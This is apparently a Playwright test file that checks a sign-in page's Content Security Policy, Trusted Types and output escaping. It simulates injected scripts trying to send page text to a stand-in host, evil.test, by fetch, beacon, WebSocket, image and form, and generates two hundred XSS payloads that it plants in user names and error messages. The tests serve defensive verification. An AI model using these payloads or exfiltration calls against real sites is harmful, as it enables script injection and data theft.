import type { Page, Request } from "playwright/test";
import { expect, test } from "./fixtures.ts";
import { addPerson, people } from "./people.ts";

/*
 * What the page's policy does in a browser: whoever gets a script into the page finds nothing to take and no way to take it out,
 * and whatever the tenant calls somebody stays words.
 */

/** What a script would try that somebody has got in, each with the directive that is in its way. */
const TRIES: readonly (readonly [directive: string, trial: () => unknown])[] = [
  ["require-trusted-types-for", () => (document.body.innerHTML = "<b>theirs</b>")],
  ["require-trusted-types-for", () => document.body.insertAdjacentHTML("beforeend", "<b>theirs</b>")],
  ["require-trusted-types-for", () => document.write("<b>theirs</b>")],
  ["require-trusted-types-for", () => Reflect.set(document.createElement("iframe"), "srcdoc", "<b>theirs</b>")],
  ["require-trusted-types-for", () => Reflect.set(document.createElement("script"), "text", "ran = true")],
  ["require-trusted-types-for", () => Reflect.set(document.createElement("script"), "src", "https://evil.test/")],
  ["require-trusted-types-for", () => Reflect.set(document.createElement("object"), "data", "https://evil.test/")],
  ["require-trusted-types-for", () => new DOMParser().parseFromString("<b>theirs</b>", "text/html")],
  ["require-trusted-types-for", () => document.createRange().createContextualFragment("<b>theirs</b>")],
  ["trusted-types", makePolicy],
  ["connect-src", () => fetch("https://evil.test/", { method: "POST", body: document.body.innerText })],
  ["connect-src", () => navigator.sendBeacon("https://evil.test/", "theirs")],
  ["connect-src", () => new WebSocket("wss://evil.test/")],
  ["connect-src", () => new EventSource("https://evil.test/")],
  ["img-src", () => document.body.append(Object.assign(new Image(), { src: "https://evil.test/?theirs" }))],
  [
    "img-src",
    () => document.body.append(Object.assign(new Image(), { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" })),
  ],
  ["style-src-attr", () => document.body.setAttribute("style", "background: url(https://evil.test/)")],
  [
    "style-src-elem",
    () => document.head.append(Object.assign(document.createElement("style"), { textContent: "* {}" })),
  ],
  [
    "frame-src",
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/" })),
  ],
  [
    "base-uri",
    () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" })),
  ],
  [
    "form-action",
    () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "POST" });
      document.body.append(form);
      form.submit();
    },
  ],
  ["require-trusted-types-for", () => document.createElement("button").setAttribute("onclick", "ran = true")],
  ["require-trusted-types-for", () => void Reflect.apply(setTimeout, undefined, ["ran = true"])],
];

test("a script that somebody gets into the page finds nothing and gets nothing out", async ({
  page,
  demo,
  quick,
  complaints,
}) => {
  await page.goto(demo.page);
  await quick.signInHere(people.robin);
  const asked: Request[] = [];
  page.on("request", (request) => asked.push(request));
  for (const [directive, trial] of TRIES) {
    const before = complaints.length;
    await page.evaluate(trial).catch(() => undefined);
    const told = () =>
      complaints.slice(before).some((complaint) => complaint.startsWith(`console: violated: ${directive} `));
    await expect.poll(told, { message: `${directive}: ${String(trial)}`, intervals: [20] }).toBe(true);
  }
  const elsewhere = asked.filter((request) => !request.url().startsWith(demo.page));
  expect(elsewhere.filter((request) => request.failure()?.errorText !== "csp").map((request) => request.url())).toEqual(
    [],
  );
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(await kept(page)).toEqual({
    cookie: "",
    local: 0,
    session: 0,
    databases: [],
    caches: [],
    workers: 0,
    name: "",
    state: null,
  });
  complaints.length = 0;
});

function makePolicy(): void {
  const types: unknown = Reflect.get(globalThis, "trustedTypes");
  const make: unknown = typeof types === "object" && types !== null ? Reflect.get(types, "createPolicy") : undefined;
  if (typeof make === "function") Reflect.apply(make, types, ["theirs", {}]);
}

/** Everything that a script can find without asking anybody. */
function kept(page: Page) {
  return page.evaluate(async () => ({
    cookie: document.cookie,
    local: localStorage.length,
    session: sessionStorage.length,
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    name: window.name,
    state: history.state as unknown,
  }));
}

/** Two hundred ways in which a word would be markup: twenty elements, each with ten ways to run something. */
const ELEMENTS =
  "img svg iframe video audio details body input select textarea object embed form math marquee style link meta base a".split(
    " ",
  );
const RUNS = "onerror onload ontoggle onfocus onmouseover onanimationstart onbegin src href xlink:href".split(" ");
const PAYLOADS = ELEMENTS.flatMap((element) =>
  RUNS.map(
    (name) => `"'><${element} ${name}="${name.startsWith("on") ? "" : "javascript:"}window.ran=true" autofocus open>`,
  ),
);

test("two hundred ways to be markup stay words, in every word of the tenant's", async ({ page, pairFor, quick }) => {
  const site = await pairFor("password");
  expect(PAYLOADS).toHaveLength(200);
  const all = `${PAYLOADS.join("")}<script>window.ran=true</script>`;
  const person = await addPerson(site, { name: all, phone: "+12025550187", pushDevice: all });
  await page.goto(site.page);
  await quick.signInHere(person);
  expect((await quick.methods()).length).toBeGreaterThan(0);
  for (const error of [all, "invalid_grant", "access_denied", "too_many_attempts", "password_leaked"]) {
    const body = JSON.stringify({ error, error_description: all, message: all, mfa_token: all });
    await fetch(`${site.tenant}/_control/faults`, { method: "DELETE" });
    const added = await fetch(`${site.tenant}/_control/faults`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({
        route: "POST /oauth/token",
        phase: "before",
        action: { type: "status", status: 403, body },
      }),
    });
    expect(added.ok).toBe(true);
    await page.context().clearCookies();
    await page.reload();
    await quick.root.getByLabel("Email or username").fill(person.username);
    await quick.root.getByLabel("Password").fill(person.password);
    const before = await quick.root.ariaSnapshot();
    const button = quick.root.getByRole("button", { name: "Sign in", exact: true });
    const [answer] = await Promise.all([page.waitForResponse(/\/sign-in$/), button.click()]);
    expect(answer.status(), error.slice(0, 20)).toBeGreaterThanOrEqual(400);
    await expect.poll(() => quick.root.ariaSnapshot()).not.toBe(before);
    expect(await page.content()).not.toContain("window.ran=true");
  }
  await fetch(`${site.tenant}/_control/faults`, { method: "DELETE" });
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
});
